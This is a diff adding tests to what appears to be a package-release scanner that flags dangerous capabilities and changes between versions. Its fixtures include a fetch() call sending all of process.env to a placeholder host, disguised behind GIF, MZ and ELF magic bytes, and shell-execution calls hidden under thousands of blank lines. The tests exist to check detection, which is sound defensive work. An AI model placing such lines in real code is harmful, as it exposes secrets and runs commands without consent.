@@ -1,6 +1,7 @@
 import assert from "node:assert/strict";
 import { test } from "node:test";
 import type { FileFacts, PackageFacts } from "../../../model/index.ts";
+import { weighChange } from "./compare-weigh.ts";
 import { comparePackages } from "./compare.ts";
 import { packageFacts } from "./files-package.ts";
 import { fileFacts } from "./files.ts";
@@ -91,6 +92,51 @@ test("binding.gyp, .pth and setup.py run by themselves, and reach the files that
     ["pth start", "setup-py install"],
   );
   assert.ok(python.selfRuns[0]?.sightings.some(({ capability }) => capability === "process"));
+});
+
+test("what is named as code is read as code, whatever its bytes begin like or hold", () => {
+  const sends = `fetch("https://a.invalid/", { body: JSON.stringify(process.env) });\n`;
+  for (const before of ["/*\0*/", `/*${"\u0001".repeat(900)}*/`, "GIF89a=1;/*\0*/", "MZ=1;", "/*\u007fELF\0*/"])
+    assert.deepEqual(flows("a.js", before + sends), ["environment-whole -> network"], before.slice(0, 12));
+});
+
+test("code that is too large to be read, or that the archive does not give, is news; what could not be read before either is none", async () => {
+  const manifest = { "package.json": `{"name":"a","version":"1.0.0"}` };
+  const large = { ...manifest, "a.py": `${"#".repeat(99)}\n`.repeat(350_000) };
+  const [small, grown] = [await release({ ...manifest, "a.py": "x = 1\n" }), await release(large)];
+  const change = comparePackages(small, grown);
+  assert.deepEqual(
+    change.news.map((news) => news.kind === "hiding" && news.hiding.kind),
+    ["unread"],
+  );
+  assert.equal(weighChange(change).tier, "review");
+  assert.deepEqual(comparePackages(grown, grown).news, []);
+  const lost = { ...small, files: small.files.slice(1), unread: [{ path: "a.py", because: "it is too large" }] };
+  assert.equal(weighChange(comparePackages(small, lost)).tier, "review");
+  assert.deepEqual(comparePackages(lost, lost).news, []);
+});
+
+test("empty lines between statements and blocks within blocks change nothing of what is seen where", () => {
+  const code = (gap: string): string => `import os${gap}class A:${gap}  def f(self):${gap}    def g():${gap}      os.system("id")${gap}`;
+  const [plain, spread] = [facts("a.py", code("\n")), facts("a.py", code(`\n${"\n".repeat(5_000)}`))];
+  assert.deepEqual(
+    [plain, spread].map(({ sightings }) =>
+      sightings.filter(({ capability }) => capability === "process").map(({ spots }) => spots[0]?.scope),
+    ),
+    [["A.f.g"], ["A.f.g"]],
+  );
+});
+
+test("files whose names carry a bundler's hash are laid beside each other", async () => {
+  const code = `exports.run = () => require("child_process").exec("ls");\n`;
+  for (const [old, now] of [
+    ["dist/jiti-D-zwvB-L-Cp-Q6Ij2.js", "dist/jiti-Bb1dT6Cw-DYuZTEqX.js"],
+    ["dist/flow-BXs7AWV-.js", "dist/flow-C6LkWPPl.js"],
+    ["dist/chunk-5OKX4RBR.mjs", "dist/chunk-ABCDEFGH.mjs"],
+  ] as const) {
+    const change = comparePackages(await release({ [old]: code, "b.js": "" }), await release({ [now]: `${code}// more\n`, "b.js": "" }));
+    assert.deepEqual([change.files.map(({ kind }) => kind), change.news], [["moved"], []], now);
+  }
 });
 
 test("a file that moved, and files in another order, are no news", async () => {
